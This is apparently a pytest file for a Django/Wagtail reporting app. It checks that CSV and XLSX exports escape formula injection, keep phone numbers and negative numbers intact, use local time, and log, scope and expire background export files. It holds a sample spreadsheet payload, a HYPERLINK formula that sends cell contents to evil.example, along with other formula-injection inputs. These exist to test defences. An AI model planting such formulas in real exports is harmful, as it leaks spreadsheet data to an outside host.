"""Exports: Wagtail's spreadsheet export with local time, a BOM, no formulas, intact phones and
negative numbers; large exports in the background into private, expiring files; every export logged."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import CADRES
from reports import summaries
from reports.exports import Column, ReportSpreadsheet, csv_value, xlsx_value
from reports.models import ExportJob
from tests.factories import UserFactory
from tests.reports import helpers

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def people(world):
    course, _steps = helpers.course(title="Dịch vụ công trực tuyến")
    tricky = UserFactory(
        username="tricky",
        full_name=EVIL,
        phone="+84912345678",
        email="canbo@example.invalid",
        commune=world.commune_a1,
        roles=[CADRES],
    )
    tricky.position = "-Phó trưởng thôn"
    tricky.save()
    helpers.enrol(tricky, course, completed=True)
    helpers.enrol(world.cadre, course, started=True)
    summaries.rebuild()
    return {"tricky": tricky, "course": course}


def _url(name, *args, **params):
    from urllib.parse import urlencode

    return reverse(f"reports_admin:{name}", args=args) + "?" + urlencode(params)


def _export(client, name, *args, export, table="", **params):
    """Exports start by POST to the page's own URL, its filters in the query string."""
    return client.post(_url(name, *args, **params), {"export": export, "table": table})


def _csv_rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("+84912345678", "+84912345678"),
        ("-12.5", "-12.5"),
        ("Nguyễn Thị Lan", "Nguyễn Thị Lan"),
        ("", ""),
        (-5, -5),
        (Decimal("-2.50"), -2.5),
        (None, ""),
    ],
)
def test_csv_cells_never_start_a_formula_but_keep_numbers(value, expected):
    assert csv_value(value) == expected


def test_xlsx_values_are_local_time_and_clean_text():
    moment = dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC)
    assert xlsx_value(moment) == dt.datetime(2026, 1, 2, 10, 4)
    assert xlsx_value("ghi\x07chú") == "ghichú"
    assert xlsx_value(-3) == -3


def test_a_written_csv_quotes_text_and_leaves_numbers_bare():
    sheet = ReportSpreadsheet([Column("name", "Tên"), Column("phone", "Điện thoại"), Column("n", "Số")], "x")
    data = sheet.csv_bytes([{"name": "=1+2", "phone": "+84912345678", "n": -5}]).decode("utf-8-sig")
    assert data.splitlines()[1] == '"\'=1+2","+84912345678",-5'


def test_commune_cadres_as_csv(client, world, people):
    client.force_login(world.manager_a)
    response = _export(client, "commune", world.commune_a1.pk, export="csv", table="cadres")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    header, *body = rows
    assert header[:3] == ["Họ và tên", "Tên đăng nhập", "Số điện thoại"]
    tricky = next(r for r in body if r[1] == "tricky")
    assert tricky[0] == "'" + EVIL
    assert tricky[2] == "+84912345678"
    assert tricky[4] == "'-Phó trưởng thôn"
    assert len(body) == 3  # the cadre, the leader and the tricky one


def test_commune_cadres_as_xlsx(client, world, people):
    client.force_login(world.manager_a)
    response = _export(client, "commune", world.commune_a1.pk, export="xlsx", table="cadres")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2))
    tricky = next(r for r in rows if r[1].value == "tricky")
    assert tricky[0].value == EVIL and tricky[0].data_type == "s"  # text, never a formula
    assert tricky[2].value == "+84912345678" and tricky[2].data_type == "s"
    assert tricky[7].value == 1 and tricky[7].data_type == "n"


def test_enrolments_export_uses_local_time(client, world, people):
    enrolment = people["tricky"].enrollments.get()
    client.force_login(world.manager_a)
    response = _export(client, "cadre", people["tricky"].pk, export="xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    enrolled_at = sheet.cell(row=2, column=header.index("Ghi danh lúc") + 1).value
    local = timezone.localtime(enrolment.created_at).replace(tzinfo=None, microsecond=0)
    assert abs((enrolled_at - local).total_seconds()) < 1


def test_every_table_view_exports(client, world, people):
    client.force_login(world.manager_a)
    cases = [
        ("overview", (), "provinces"),
        ("province", (world.province_a.pk,), "communes"),
        ("province", (world.province_a.pk,), "progress"),
        ("commune", (world.commune_a1.pk,), "teams"),
        ("commune", (world.commune_a1.pk,), "progress"),
        ("team", (world.team_a1.pk,), "cadres"),
        ("cadre", (world.cadre.pk,), "enrolments"),
        ("targets", (), "targets"),
    ]
    for name, args, table in cases:
        for export in ("csv", "xlsx"):
            response = _export(client, name, *args, export=export, table=table)
            assert response.status_code == 200, (name, table, export)
    assert ExportJob.objects.filter(created_by=world.manager_a).count() == len(cases) * 2


def test_exports_are_logged_with_scope_and_filters(client, world, people):
    from wagtail.models import ModelLogEntry

    client.force_login(world.manager_a)
    _export(client, "province", world.province_a.pk, export="csv", table="communes", course=people["course"].course_key)
    entry = ModelLogEntry.objects.filter(action="reports.export").latest("timestamp")
    assert entry.user_id == world.manager_a.pk
    assert entry.data["scope"] == world.province_a.name
    assert entry.data["filters"] == {"course": str(people["course"].course_key)}
    assert entry.data["table"] == "communes" and entry.data["format"] == "csv"
    assert "Xuất CSV" in entry.message


def test_large_exports_run_in_the_background_into_a_private_file(
    client, world, people, settings, django_capture_on_commit_callbacks
):
    settings.REPORTS_EXPORT_INLINE_MAX_ROWS = 1
    client.force_login(world.manager_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = _export(client, "commune", world.commune_a1.pk, export="xlsx", table="cadres")
    job = ExportJob.objects.latest("pk")
    assert response.status_code == 302 and response["Location"] == reverse("reports_admin:export", args=[job.pk])
    assert job.in_background and job.status == ExportJob.Status.DONE and job.rows == 3
    assert str(settings.PRIVATE_MEDIA_ROOT) in job.file.path
    assert job.expires_at > timezone.now() + dt.timedelta(hours=23)
    page = client.get(reverse("reports_admin:export", args=[job.pk])).content.decode()
    assert reverse("reports_admin:export_download", args=[job.pk]) in page
    download = client.get(reverse("reports_admin:export_download", args=[job.pk]))
    assert download.status_code == 200 and "no-store" in download["Cache-Control"]
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert sheet.max_row == 4

    # Another manager, even in scope, cannot download it; out of scope it does not exist.
    for other in (world.commune_manager_a1, world.manager_b):
        client.force_login(other)
        assert client.get(reverse("reports_admin:export_download", args=[job.pk])).status_code == 404
        assert client.get(reverse("reports_admin:export", args=[job.pk])).status_code == 404


def test_expired_export_files_are_deleted(client, world, people, settings, django_capture_on_commit_callbacks):
    from reports import services

    settings.REPORTS_EXPORT_INLINE_MAX_ROWS = 1
    client.force_login(world.manager_a)
    with django_capture_on_commit_callbacks(execute=True):
        _export(client, "commune", world.commune_a1.pk, export="csv", table="cadres")
    job = ExportJob.objects.latest("pk")
    path = job.file.path
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    assert client.get(reverse("reports_admin:export_download", args=[job.pk])).status_code == 404
    assert services.exports_purge_expired() == 1
    import os

    assert not os.path.exists(path)
    job.refresh_from_db()
    assert not job.file  # the row stays, as the record of the export


def test_an_export_whose_scope_was_taken_away_fails(world, people):
    from accounts.models import ManagerScope
    from reports import services
    from reports.filters import Filters

    job = services.export_start(
        user=world.manager_a,
        level="commune",
        obj=world.commune_a1,
        table="cadres",
        export_format="csv",
        filters=Filters(),
        label="x",
        rows=5000,
    )
    ManagerScope.objects.filter(user=world.manager_a).delete()
    world.manager_a.__dict__.pop("_kns_scopes", None)
    finished = services.export_run(job_id=job.pk)
    assert finished.status == ExportJob.Status.FAILED and not finished.file
